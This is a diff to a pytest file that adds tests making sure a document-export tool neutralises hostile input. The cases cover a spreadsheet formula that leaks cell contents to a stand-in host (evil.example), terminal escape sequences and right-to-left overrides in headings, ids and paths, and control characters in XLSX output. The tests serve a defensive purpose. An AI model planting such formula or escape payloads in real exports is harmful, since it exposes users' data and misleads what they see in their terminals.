@@ -8,17 +8,68 @@ import csv
 import io
 import json
 import os
+import re
 import subprocess
+import zipfile
 from pathlib import Path
 
 import pytest
 
 from hostile import KEY_PEOPLE, ROOT, Case, both, check_case, unit, write
+from hostile_inputs import with_k1
 
 FORMULA = '=HYPERLINK("http://x.example/?leak","click")'
 # A window title, a clear screen, an OSC-8 link, a C1 CSI and a right-to-left override.
 ESCAPES = "\x1b]0;pwned\x07 \x1b[2J \x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\ \x9b31m \u202eevil"
 RAW = ("\x1b", "\x07", "\x9b", "\u202e")
+
+
+# Further cases of the class, first written on a parallel branch of #27 (guards) and kept here.
+FORMULA_FAR = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
+RAW_RE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+SDF = (ROOT / "data/raw/sdf/cwdc-skills-development-framework.txt").read_text(encoding="utf-8")
+
+
+def _no_raw_shown(_: Path, result: subprocess.CompletedProcess) -> None:
+    for stream in (result.stdout, result.stderr):
+        assert not RAW_RE.search(stream), repr(RAW_RE.findall(stream))
+    shown = result.stdout + result.stderr
+    assert "␛" in shown or "\\x1b" in shown  # shown, not dropped: nothing is lost
+
+
+def _no_raw_at_all(result: subprocess.CompletedProcess) -> None:
+    assert not RAW_RE.search(result.stdout + result.stderr), result.stderr
+
+
+def _hostile_unit(name: str = "units/key-people.txt", text: str = FORMULA_FAR + " know the " + ESCAPES):
+    return lambda tmp: unit(tmp, name, with_k1(text))
+
+
+def _no_formula_cells(rows: list[list[str]]) -> None:
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")), cell
+            assert not re.match(r"\s+[=+\-@]", cell), cell
+
+
+def _csv_cells(_: Path, result: subprocess.CompletedProcess) -> None:
+    rows = list(csv.reader(io.StringIO(result.stdout)))
+    assert any("HYPERLINK" in c for r in rows for c in r)
+    _no_formula_cells(rows)
+
+
+def _xlsx_cells(name: str):
+    def check(tmp: Path, _: subprocess.CompletedProcess) -> None:
+        book = zipfile.ZipFile(tmp / name)
+        xml = "".join(book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/"))
+        assert "<f>" not in xml and "HYPERLINK" in xml  # the text is kept, never a formula
+        assert "\\x01" in xml or "\\x1b" in xml  # the control character is shown, not dropped
+
+    return check
+
+
+def _with_sdf(tmp: Path) -> None:
+    unit(tmp, "units/sdf.txt", SDF)
 
 
 def _with(text: str) -> str:
@@ -83,6 +134,33 @@ CASES: dict[str, Case] = {
     "stdout closed (list)": Case(["list"], env={"STDOUT": "closed"}, stderr="standard output is closed"),
     "stdout closed, -o given: runs": Case(["export", "-f", "json", "--framework", "sdf", "-o", "x.json"], env={"STDOUT": "closed"},
                                           exit=0, check=lambda t, _: json.loads((t / "x.json").read_text(encoding="utf-8"))),
+    # --- further cases of the class ---------------------------------------------------------------
+    "statements CSV: a formula behind spaces": Case(
+        ["--corpus", "units", "statements", "-f", "csv"], _hostile_unit(text="  " + FORMULA), exit=0, check=_csv_cells),
+    # --- control characters in xlsx ---------------------------------------------------------------
+    "crosswalk review workbook: a control character in a heading": Case(
+        ["--corpus", "units", "crosswalk", "nos/key-people", "sdf/3", "-f", "xlsx", "-o", "r.xlsx"],
+        both(lambda t: unit(t, "units/key-people.txt", with_k1(FORMULA_FAR + " a\x01b").replace(" Rights", " Rig\x01hts", 1)), _with_sdf),
+        exit=0, check=_xlsx_cells("r.xlsx")),
+    "export xlsx: a control character in a criterion and a heading": Case(
+        ["--corpus", "units", "export", "-f", "xlsx", "-o", "o.xlsx"],
+        lambda t: unit(t, "units/key-people.txt", with_k1(FORMULA_FAR + " a\x01b").replace(" Rights", " Rig\x01hts", 1)),
+        exit=0, check=_xlsx_cells("o.xlsx")),
+    "show: escapes in a section heading": Case(["--corpus", "units", "show", "nos/key-people"],
+                                               lambda t: unit(t, "units/key-people.txt", KEY_PEOPLE.replace(" Rights", " Rights" + ESCAPES, 1)),
+                                               exit=0, check=_no_raw_shown),
+    "an error message naming an id with escapes": Case(["show", "nos/\x1b]0;pwned\x07\x1b[2J"], stderr="no statement or part has the id",
+                                                       check=_no_raw_shown),
+    "a usage error naming a command with escapes": Case(["\x1b]0;pwned\x07\x1b[2J"], stderr="no such command", check=_no_raw_shown),
+    "an OS error naming a path with escapes": Case(["export", "-f", "json", "-o", "o\x1b[2J\x9b/x.json"], stderr="does not exist",
+                                                   check=_no_raw_shown),
+    "an internal error quoting document text": Case(
+        ["--corpus", "units", "crosswalk", "nos/key-people", "sdf/3", "-f", "xlsx", "-o", "r.xlsx"],
+        both(lambda t: unit(t, "units/key-people.txt", KEY_PEOPLE.replace(" Rights", " Rights\x1b[2J\x01", 1)), _with_sdf),
+        exit=0, check=lambda t, r: _no_raw_at_all(r)),
+    # --- a closed stdout ---------------------------------------------------------------------------
+    "a closed stdout (validate -f json >&-)": Case(["validate", "units", "-f", "json"], lambda t: unit(t),
+                                                   env={"STDOUT": "closed"}, stderr="standard output is closed"),
 }  # fmt: skip
 
 
